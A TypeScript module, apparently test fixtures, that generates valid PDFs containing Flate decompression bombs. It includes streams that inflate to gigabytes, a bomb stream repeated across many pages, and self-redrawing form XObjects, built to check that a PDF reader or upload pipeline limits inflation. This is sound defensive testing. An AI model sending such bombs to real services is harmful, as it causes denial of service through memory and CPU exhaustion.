/**
 * Valid PDFs whose streams are Flate "bombs": megabytes of spaces compressed to a few KiB.
 * Built here, never stored: a reader that inflates without a bound would allocate all of it.
 */
import { constants, deflateRawSync, deflateSync } from "node:zlib";

const encoder = new TextEncoder();
const MIB = 1024 * 1024;

/**
 * zlib data of `n` spaces, then `tail`, built a MiB at a time: raw deflate segments that end on
 * a sync flush can follow each other, so a 1 GiB bomb costs a MiB to build, not a GiB the
 * process that builds it would hold until a GC.
 */
function spaces(n: number, tail = ""): Uint8Array {
  const flush = { level: 9, finishFlush: constants.Z_SYNC_FLUSH };
  const run = (len: number) => deflateRawSync(new Uint8Array(len).fill(0x20), flush);
  const mib = run(Math.min(n, MIB));
  const parts: Uint8Array[] = [Uint8Array.of(0x78, 0xda)];
  for (let left = n; left > 0; left -= MIB) parts.push(left >= MIB ? mib : run(left));
  const last = encoder.encode(tail);
  parts.push(deflateRawSync(last)); // the final block
  // Adler-32 of the whole: the spaces in closed form, then the tail
  const big = BigInt(n);
  let a = Number((1n + 32n * big) % 65521n);
  let b = Number((big + 16n * big * (big + 1n)) % 65521n);
  for (const byte of last) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  parts.push(Uint8Array.of(b >> 8, b & 0xff, a >> 8, a & 0xff));
  return concat(parts);
}

function concat(parts: Uint8Array[]): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** Objects numbered from 1 in order, each a dictionary and maybe a (Flate) stream. */
function pdf(objects: { body: string; stream?: Uint8Array }[]): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [];
  const offsets: number[] = [];
  let at = 0;
  const push = (b: Uint8Array) => {
    parts.push(b);
    at += b.length;
  };
  push(encoder.encode("%PDF-1.4\n"));
  objects.forEach(({ body, stream }, i) => {
    offsets.push(at);
    if (!stream) return push(encoder.encode(`${i + 1} 0 obj\n${body}\nendobj\n`));
    const dict = body.replace(/>>$/, ` /Length ${stream.length} /Filter /FlateDecode >>`);
    push(encoder.encode(`${i + 1} 0 obj\n${dict}\nstream\n`));
    push(stream);
    push(encoder.encode("\nendstream\nendobj\n"));
  });
  const xref = at;
  const rows = offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`);
  push(encoder.encode(
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows.join("")}` +
      `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
  ));
  return concat(parts);
}

const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** One page whose content stream inflates to `inflatedBytes` of spaces. */
export function flateBombPdf(inflatedBytes: number): Uint8Array<ArrayBuffer> {
  return pdf([
    { body: "<< /Type /Catalog /Pages 2 0 R >>" },
    { body: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>" },
    {
      body: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " +
        "/Resources << /Font << /F1 5 0 R >> >> >>",
    },
    { body: "<< >>", stream: spaces(inflatedBytes) },
    { body: FONT },
  ]);
}

/** A page of text, then a page whose content stream inflates to `inflatedBytes` of spaces. */
export function textThenBombPdf(inflatedBytes: number): Uint8Array<ArrayBuffer> {
  const page = (content: number) =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${content} 0 R ` +
    "/Resources << /Font << /F1 7 0 R >> >> >>";
  return pdf([
    { body: "<< /Type /Catalog /Pages 2 0 R >>" },
    { body: "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>" },
    { body: page(5) },
    { body: page(6) },
    {
      body: "<< >>",
      stream: deflateSync(encoder.encode("BT /F1 12 Tf 72 720 Td (A page of text.) Tj ET")),
    },
    { body: "<< >>", stream: spaces(inflatedBytes) },
    { body: FONT },
  ]);
}

/**
 * `pages` pages with a line of text each (so the upload is accepted and ingested, pages in
 * parallel), then the same `inflatedBytes` stream `repeat` times in /Contents, and a form
 * drawn `forms` times whose content is as big and draws itself again (forms nest).
 */
export function repeatedBombPdf(
  { pages, inflatedBytes, repeat, forms }: {
    pages: number;
    inflatedBytes: number;
    repeat: number;
    forms: number;
  },
): Uint8Array<ArrayBuffer> {
  const first = 6; // objects 1-5 below, then a page and its text per page
  const kids = Array.from({ length: pages }, (_, i) => `${first + 2 * i} 0 R`).join(" ");
  const objects: { body: string; stream?: Uint8Array }[] = [
    { body: "<< /Type /Catalog /Pages 2 0 R >>" },
    { body: `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>` },
    { body: FONT },
    { body: "<< >>", stream: spaces(inflatedBytes) },
    {
      body: "<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] >>",
      stream: spaces(inflatedBytes, " /Fm Do"),
    },
  ];
  const bombs = Array(repeat).fill("4 0 R").join(" ");
  for (let i = 0; i < pages; i++) {
    const text = first + 2 * i + 1;
    objects.push({
      body:
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [${text} 0 R ${bombs}] ` +
        "/Resources << /Font << /F1 3 0 R >> /XObject << /Fm 5 0 R >> >> >>",
    });
    const draw = " /Fm Do".repeat(forms);
    objects.push({
      body: "<< >>",
      stream: deflateSync(encoder.encode(
        `BT /F1 12 Tf 72 720 Td (Page ${i + 1} of a decompression bomb.) Tj ET${draw}`,
      )),
    });
  }
  return pdf(objects);
}
